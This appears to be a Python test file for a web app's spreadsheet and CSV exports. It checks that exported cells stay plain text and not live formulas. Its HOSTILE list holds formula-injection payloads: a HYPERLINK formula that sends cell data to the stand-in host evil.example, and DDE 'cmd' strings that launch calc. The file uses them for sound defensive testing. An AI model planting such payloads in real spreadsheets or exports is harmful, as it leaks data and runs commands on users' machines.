"""Formula injection: text a user typed reaches every web export as text, never as a live
formula, and the importers read back exactly what the exports wrote (issue 11, item 10)."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from openpyxl import load_workbook

from assess.accounts.models import User
from assess.cycles import lifecycle, publishing, submissions
from assess.cycles.models import Cycle, Submission
from assess.nominations import ranking_runs
from assess.nominations.models import Nomination, NominationCategory, NominationRound
from assess.units.models import Unit
from scoring.reviews_file import read_reviews_csv
from tests.cycle_helpers import SET_PATH, unit
from tests.nomination_helpers import nomination_demo_only  # noqa: F401 (the ``demo`` fixture)

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CSV_BOM = "\ufeff"
# What a hostile reporter or office types; each survives the services' own trimming.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
# Only the narrative is kept exactly as typed, leading whitespace included.
NARRATIVE = "\t=1+1\r\n说明"


def _workbook_without_formulas(data: bytes):
    """The workbook, after checking that no sheet of it holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    return load_workbook(io.BytesIO(data))


def _text_cells(workbook) -> dict[str, object]:
    """Every text cell's value, checking each is a string cell and a dangerous one keeps
    Excel's quote prefix (so editing it in Excel keeps it text)."""
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    if cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, (cell.coordinate, cell.value)
                    found[cell.value] = cell
    return found


def _hostile_cycle(state: str) -> Cycle:
    admin = User.get(User.username == "admin")
    text = SET_PATH.read_text("utf-8").replace("政策知晓率", json.dumps(HOSTILE[0]))
    text = text.replace("grade: 不合格", f"grade: {json.dumps(HOSTILE[1])}")
    cycle = lifecycle.create_cycle(2026, HOSTILE[2], text, "set.yaml", actor=admin)
    for target in ("open", "review")[: ("open", "review").index(state) + 1]:
        lifecycle.transition(cycle, target, admin)
    return Cycle.get_by_id(cycle.id)


def test_the_fill_in_template_keeps_hostile_text_as_text_and_reads_it_back(as_user, db):
    cycle, jinshui = _hostile_cycle("open"), unit("410105")
    reporter_user = User.get(User.username == "r-410105")
    submissions.save_value(cycle, jinshui, "A2", "4", NARRATIVE, None, reporter_user)
    submissions.save_value(cycle, jinshui, "B1", "良", HOSTILE[3], None, reporter_user)
    reporter = as_user("r-410105")
    url = f"/cycles/{cycle.id}/units/{jinshui.id}/template"
    response = reporter.get(url + ".xlsx")
    assert response.status_code == 200
    cells = _text_cells(_workbook_without_formulas(response.data))
    # XML keeps no carriage return: the cell has LF line ends, the import restores CRLF.
    assert {HOSTILE[0], NARRATIVE.replace("\r\n", "\n"), HOSTILE[3]} <= set(cells)
    assert cells["4"].value == "4"  # a saved number reads back as the same digits

    before = {s.indicator_code: (s.value_text, s.narrative) for s in Submission.select()}
    page = reporter.post(
        url,
        data={"workbook": (io.BytesIO(response.data), "filled.xlsx")},
        content_type="multipart/form-data",
        follow_redirects=True,
    ).data.decode()
    assert "已导入 2 项指标" in page
    after = {s.indicator_code: (s.value_text, s.narrative) for s in Submission.select()}
    assert after == before == {"A2": ("4", NARRATIVE), "B1": ("良", HOSTILE[3])}


def test_the_results_export_keeps_unit_names_and_grades_as_text(as_user, db):
    Unit.update(name=HOSTILE[4]).where(Unit.code == "410105").execute()
    cycle = _hostile_cycle("review")
    publishing.publish(cycle, User.get(User.username == "admin"))
    response = as_user("viewer").get(f"/cycles/{cycle.id}/results.xlsx")
    assert response.status_code == 200
    workbook = _workbook_without_formulas(response.data)
    cells = _text_cells(workbook)
    assert HOSTILE[4] in cells and HOSTILE[1] in cells
    totals = [row[3] for row in workbook.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert totals and all(isinstance(total, int | float) for total in totals)  # numbers stay


def test_the_award_list_and_the_reviews_csv_keep_hostile_text_inert(app, db, demo, as_user):
    round_ = NominationRound.get(NominationRound.year == 2013)
    admin = User.get(User.username == "admin")
    Nomination.update(nominee_name=HOSTILE[0], work_unit=HOSTILE[1], position=HOSTILE[2]).where(
        Nomination.round == round_
    ).execute()
    Unit.update(name=HOSTILE[3]).execute()
    for category in NominationCategory.select().where(NominationCategory.round == round_):
        category.name = f"{HOSTILE[4]}{category.id}"
        category.save()
    run = ranking_runs.run_ranking(round_, admin)
    undecided = [r for r in ranking_runs.run_results(run) if r.selected is None]
    for number, nominee in enumerate(undecided):
        ranking_runs.record_decision(run, int(nominee.nomination), number == 0, HOSTILE[4], admin)
    ranking_runs.confirm_run(run, admin)
    office = as_user("admin")

    response = office.get(f"/nominations/rounds/{round_.id}/awards.xlsx")
    assert response.status_code == 200
    workbook = _workbook_without_formulas(response.data)
    assert set(HOSTILE) <= set(_text_cells(workbook))
    scores = [row[7] for row in workbook.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert len(scores) == 30 and all(isinstance(score, int | float) for score in scores)

    response = office.get(f"/nominations/rounds/{round_.id}/ranking/{run.id}/reviews.csv")
    assert response.status_code == 200
    text = response.data.decode("utf-8")
    assert text.startswith(CSV_BOM)  # Excel shows the Chinese only with it
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert all(not cell.startswith(FORMULA_TRIGGERS) for row in rows for cell in row)
    assert read_reviews_csv(response.data) == ranking_runs.run_reviews(run)
